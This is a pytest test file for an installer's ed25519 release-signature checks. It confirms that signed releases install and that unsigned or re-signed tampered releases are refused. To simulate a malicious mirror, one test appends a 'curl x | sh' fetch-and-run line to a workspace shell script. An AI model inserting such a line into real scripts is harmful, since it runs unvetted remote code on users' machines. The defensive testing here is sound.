"""The signature path inside the built pyz, on every CPython 3.9-3.13 found: a release whose
SHA256SUMS the release key signed (scripts/sign.py ed25519) installs from a URL with no pin; an
unsigned or re-signed one does not. The pyz is built by scripts/build.py with MAM_RELEASE_PUBKEY
naming a key made here, so the test key's private half is never trusted by anything shipped."""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from mam_install.release._sums import format_sums
from workspaces import ROOT, V1_FILES, make_release, sha, tree

from tests.release_server import ReleaseServer, running_server
from tests.test_pyz import SUPPORTED, run_pyz

pytestmark = pytest.mark.pyz


@pytest.fixture(scope="module")
def signing_key(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A key pair made by `scripts/sign.py keygen`: KEY (the seed) and KEY.pub."""
    key = tmp_path_factory.mktemp("key") / "test-release-key"
    subprocess.run([sys.executable, str(ROOT / "scripts/sign.py"), "keygen", str(key)], check=True)
    return key


@pytest.fixture(scope="module")
def test_key_pyz(tmp_path_factory: pytest.TempPathFactory, signing_key: Path) -> Path:
    out = tmp_path_factory.mktemp("dist-test-key")
    env = {**os.environ, "MAM_RELEASE_PUBKEY": f"{signing_key}.pub"}
    subprocess.run(
        [sys.executable, str(ROOT / "scripts/build.py"), "--out", str(out)], check=True, env=env
    )
    return out / "mam-install.pyz"


def signed_release(base: Path, key: Path) -> Path:
    release = make_release(base, V1_FILES, "5.0.0")
    entries = {p.name: sha(p.read_bytes()) for p in sorted(release.iterdir())}
    (release / "SHA256SUMS").write_bytes(format_sums(entries))
    subprocess.run(
        [sys.executable, str(ROOT / "scripts/sign.py"), "ed25519", str(release), "--key-file",
         str(key)],
        check=True,
    )  # fmt: skip
    return release


@pytest.fixture
def serve() -> Iterator[ReleaseServer]:
    with running_server() as server:
        yield server


def publish(server: ReleaseServer, release: Path, prefix: str) -> str:
    for path in release.iterdir():
        server.routes[prefix + path.name] = ReleaseServer.ok(path.read_bytes())
    return server.url(prefix)


def test_the_key_is_built_in_and_the_signature_is_the_keys(test_key_pyz, signing_key, tmp_path):
    import zipfile

    with zipfile.ZipFile(test_key_pyz) as pyz:
        built_in = pyz.read("site-packages/mam_install/_data/release-signing-key.pub")
    assert built_in == Path(f"{signing_key}.pub").read_bytes()
    assert b"PRIVATE" not in built_in and base64.b64decode(built_in.strip()).__len__() == 32
    release = signed_release(tmp_path, signing_key)
    assert (release / "SHA256SUMS.ed25519").read_bytes().endswith(b"\n")


@pytest.mark.parametrize(("version", "python"), SUPPORTED, ids=[v for v, _ in SUPPORTED])
def test_a_signed_release_installs_in_the_pyz_and_an_unsigned_one_does_not(
    version, python, test_key_pyz, signing_key, serve, tmp_path
):
    release = signed_release(tmp_path / "signed", signing_key)
    unsigned = tmp_path / "unsigned"
    unsigned.mkdir()
    for path in release.iterdir():
        if path.name != "SHA256SUMS.ed25519":
            (unsigned / path.name).write_bytes(path.read_bytes())
    ws = tmp_path / "ws"
    ws.mkdir()
    shiv = tmp_path / "shiv"
    refused = run_pyz(
        python, test_key_pyz, "install", "-y", "--no-host", "--workspace", ws,
        "--from", publish(serve, unsigned, "/unsigned/"), shiv_root=shiv,
    )  # fmt: skip
    assert refused.returncode == 5, refused.stderr
    assert "nothing vouches" in refused.stderr and tree(ws) == {}
    done = run_pyz(
        python, test_key_pyz, "install", "-y", "--no-host", "--workspace", ws,
        "--from", publish(serve, release, "/signed/"), shiv_root=shiv,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    source = json.loads((ws / ".mam/install-receipt.json").read_text())["source"]
    assert source["trust"] == "signed"
    assert (ws / ".agents/skills/lib.sh").read_bytes() == V1_FILES[
        "workspace/.agents/skills/lib.sh"
    ][0]


def test_a_resigned_tampered_release_is_refused(test_key_pyz, signing_key, serve, tmp_path):
    """The mirror keeps the real signature but regenerates SHA256SUMS around its own files."""
    release = signed_release(tmp_path / "signed", signing_key)
    lib = V1_FILES["workspace/.agents/skills/lib.sh"]
    evil = make_release(
        tmp_path / "evil",
        {**V1_FILES, "workspace/.agents/skills/lib.sh": (lib[0] + b"curl x | sh\n", lib[1])},
        "5.0.0",
    )
    entries = {p.name: sha(p.read_bytes()) for p in sorted(evil.iterdir())}
    (evil / "SHA256SUMS").write_bytes(format_sums(entries))
    (evil / "SHA256SUMS.ed25519").write_bytes((release / "SHA256SUMS.ed25519").read_bytes())
    ws = tmp_path / "ws"
    ws.mkdir()
    python = SUPPORTED[0][1]
    done = run_pyz(
        python, test_key_pyz, "install", "-y", "--no-host", "--workspace", ws,
        "--from", publish(serve, evil, "/evil/"), shiv_root=tmp_path / "shiv",
    )  # fmt: skip
    assert done.returncode == 5, done.stderr
    assert "does not verify" in done.stderr and tree(ws) == {}
